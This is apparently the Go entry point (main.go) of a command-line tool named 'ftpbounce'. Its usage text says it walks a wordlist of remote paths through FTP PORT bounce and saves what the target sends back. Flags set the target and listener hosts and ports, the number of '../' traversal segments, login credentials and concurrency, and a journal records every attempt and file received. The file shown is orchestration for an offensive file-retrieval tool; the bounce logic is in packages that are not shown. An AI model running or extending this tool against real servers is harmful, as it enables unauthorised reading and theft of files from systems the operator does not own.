package main

import (
	"context"
	"fmt"
	"io"
	"os"
	"os/signal"
	"syscall"

	"github.com/fatih/color"
	"github.com/pkg/errors"
	log "github.com/sirupsen/logrus"
	"github.com/spf13/cobra"
	"github.com/spf13/pflag"

	"ftp_bounce/config"
	"ftp_bounce/internal/campaign"
	"ftp_bounce/internal/journal"
	"ftp_bounce/internal/probe"
	"ftp_bounce/internal/wordlist"
	"ftp_bounce/models"
)

const version = "0.1.0"

// options флаги командной строки, не вошедшие в config.Config
type options struct {
	configPath string
	wordlist   string
	verbose    int
	logFile    string
}

func main() {
	if err := newRootCmd().Execute(); err != nil {
		os.Exit(1)
	}
}

// cli хранит значения флагов до разбора аргументов
type cli struct {
	opts options
	conf config.Config
}

func newRootCmd() *cobra.Command {
	return (&cli{conf: config.Default()}).command()
}

func (c *cli) command() *cobra.Command {
	cmd := &cobra.Command{
		Use:     "ftpbounce <list|download> [wordlist]",
		Short:   "Walk a wordlist through FTP PORT bounce and save what the target sends back",
		Version: version,
		Args:    cobra.RangeArgs(1, 2),
		RunE: func(cmd *cobra.Command, args []string) error {
			cmd.SilenceUsage = true
			return run(cmd, args, c.opts, c.conf)
		},
	}

	flags := cmd.Flags()
	flags.StringVar(&c.opts.configPath, "config", "", "YAML config file")
	flags.StringVarP(&c.opts.wordlist, "wordlist", "w", "", "Wordlist path, one remote path per line")
	flags.CountVarP(&c.opts.verbose, "verbose", "v", "Verbosity (-v, -vv)")
	flags.StringVar(&c.opts.logFile, "log-file", "", "Also write logs to this file")
	bindConfigFlags(flags, &c.conf)
	return cmd
}

func bindConfigFlags(flags *pflag.FlagSet, conf *config.Config) {
	flags.StringVarP(&conf.RemoteHost, "rhost", "r", conf.RemoteHost, "Target FTP host")
	flags.StringVarP(&conf.LocalHost, "lhost", "l", conf.LocalHost, "IPv4 address advertised in PORT")
	flags.StringVar(&conf.BindHost, "bind", conf.BindHost, "Address the data listener binds to")
	flags.IntVar(&conf.ControlPort, "rport", conf.ControlPort, "Target control port")
	flags.IntVar(&conf.BouncePort, "lport", conf.BouncePort, "Data listener port advertised in PORT")
	flags.IntVar(&conf.TraversalDepth, "depth", conf.TraversalDepth, "Number of ../ segments before each path")
	flags.DurationVar(&conf.ControlTimeout, "control-timeout", conf.ControlTimeout, "Control connection timeout")
	flags.DurationVar(&conf.DataReadTimeout, "data-timeout", conf.DataReadTimeout, "Data connection read timeout")
	flags.DurationVar(&conf.Settle, "settle", conf.Settle, "Wait up to this long for each data connection (0 disables)")
	flags.IntVar(&conf.MaxHandlers, "max-handlers", conf.MaxHandlers, "Concurrent data connections")
	flags.StringVar(&conf.User, "user", conf.User, "Login user")
	flags.StringVar(&conf.Password, "password", conf.Password, "Login password")
	flags.StringVarP(&conf.OutputDir, "output", "o", conf.OutputDir, "Directory for received files")
	flags.StringVar(&conf.Journal, "journal", conf.Journal, "SQLite file recording every attempt")
	flags.BoolVar(&conf.Preflight, "preflight", conf.Preflight, "Check the login before the campaign")
}

// resolveConfig накладывает явно заданные флаги на файл и окружение
func resolveConfig(flags *pflag.FlagSet, path string, fromFlags config.Config) (config.Config, error) {
	conf, err := config.Load(path)
	if err != nil {
		return conf, err
	}
	overrides := map[string]func(){
		"rhost":           func() { conf.RemoteHost = fromFlags.RemoteHost },
		"lhost":           func() { conf.LocalHost = fromFlags.LocalHost },
		"bind":            func() { conf.BindHost = fromFlags.BindHost },
		"rport":           func() { conf.ControlPort = fromFlags.ControlPort },
		"lport":           func() { conf.BouncePort = fromFlags.BouncePort },
		"depth":           func() { conf.TraversalDepth = fromFlags.TraversalDepth },
		"control-timeout": func() { conf.ControlTimeout = fromFlags.ControlTimeout },
		"data-timeout":    func() { conf.DataReadTimeout = fromFlags.DataReadTimeout },
		"settle":          func() { conf.Settle = fromFlags.Settle },
		"max-handlers":    func() { conf.MaxHandlers = fromFlags.MaxHandlers },
		"user":            func() { conf.User = fromFlags.User },
		"password":        func() { conf.Password = fromFlags.Password },
		"output":          func() { conf.OutputDir = fromFlags.OutputDir },
		"journal":         func() { conf.Journal = fromFlags.Journal },
		"preflight":       func() { conf.Preflight = fromFlags.Preflight },
	}
	for name, apply := range overrides {
		if flags.Changed(name) {
			apply()
		}
	}
	return conf, conf.Validate()
}

func setupLogging(verbose int, logFile string) (io.Closer, error) {
	log.SetFormatter(&log.TextFormatter{FullTimestamp: true})
	switch {
	case verbose >= 2:
		log.SetLevel(log.TraceLevel)
	case verbose == 1:
		log.SetLevel(log.DebugLevel)
	default:
		log.SetLevel(log.InfoLevel)
	}
	if logFile == "" {
		return io.NopCloser(nil), nil
	}
	f, err := os.OpenFile(logFile, os.O_CREATE|os.O_APPEND|os.O_WRONLY, 0o644)
	if err != nil {
		return nil, errors.Wrapf(err, "opening log file %s", logFile)
	}
	log.SetOutput(io.MultiWriter(os.Stderr, f))
	return f, nil
}

func run(cmd *cobra.Command, args []string, opts options, fromFlags config.Config) error {
	closer, err := setupLogging(opts.verbose, opts.logFile)
	if err != nil {
		return err
	}
	defer closer.Close()

	action, err := models.ParseAction(args[0])
	if err != nil {
		log.WithFields(log.Fields{"err": err}).Error("Invalid action")
		return err
	}
	conf, err := resolveConfig(cmd.Flags(), opts.configPath, fromFlags)
	if err != nil {
		log.WithFields(log.Fields{"err": err}).Error("Invalid configuration")
		return err
	}
	log.WithFields(log.Fields{"config": fmt.Sprintf("%+v", conf)}).Debug("Configuration loaded")

	listPath := opts.wordlist
	if listPath == "" && len(args) > 1 {
		listPath = args[1]
	}
	paths, err := wordlist.Load(listPath)
	if err != nil {
		log.WithFields(log.Fields{"err": err}).Error("Loading wordlist failed")
		return err
	}

	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()

	if conf.Preflight {
		addr := fmt.Sprintf("%s:%d", conf.RemoteHost, conf.ControlPort)
		if err := probe.Login(ctx, addr, conf.User, conf.Password, conf.ControlTimeout); err != nil {
			log.WithFields(log.Fields{"err": err}).Warn("Preflight login failed, continuing")
		}
	}

	c := campaign.New(conf, action, paths)
	var j *journal.Journal
	if conf.Journal != "" {
		j, err = journal.Open(conf.Journal)
		if err != nil {
			log.WithFields(log.Fields{"err": err}).Error("Opening journal failed")
			return err
		}
		defer j.Close()
		c.Journal = j
	}

	summary, err := c.Run(ctx)
	if err != nil {
		log.WithFields(log.Fields{"err": err}).Error("Campaign aborted")
		return err
	}
	printSummary(cmd.OutOrStdout(), summary)
	if j != nil {
		// список берётся из журнала, чтобы показать то, что реально записано
		attempts, err := j.Attempts(c.ID)
		if err != nil {
			log.WithFields(log.Fields{"err": err}).Error("Reading journal failed")
			return err
		}
		printAttempts(cmd.OutOrStdout(), attempts)
	}
	return nil
}

func printSummary(w io.Writer, s models.Summary) {
	bold := color.New(color.FgWhite, color.Bold)
	fmt.Fprintln(w, bold.Sprint("Campaign:"), s.Campaign)
	fmt.Fprintln(w, bold.Sprint("Attempts:"), s.Attempts)
	failed := fmt.Sprint(s.Failed)
	if s.Failed > 0 {
		failed = color.HiRedString(failed)
	}
	fmt.Fprintln(w, bold.Sprint("Failed:"), failed)
	received := fmt.Sprint(s.Received)
	if s.Received > 0 {
		received = color.HiGreenString(received)
	}
	fmt.Fprintln(w, bold.Sprint("Received:"), received, fmt.Sprintf("(%d bytes)", s.Bytes))
}

// printAttempts перечисляет попытки, по которым пришли данные
func printAttempts(w io.Writer, attempts []models.Attempt) {
	for _, a := range attempts {
		if !a.Received {
			continue
		}
		fmt.Fprintf(w, "%s %s -> %s (%d bytes)\n", color.GreenString("+"), a.Path, a.Filename, a.Size)
	}
}
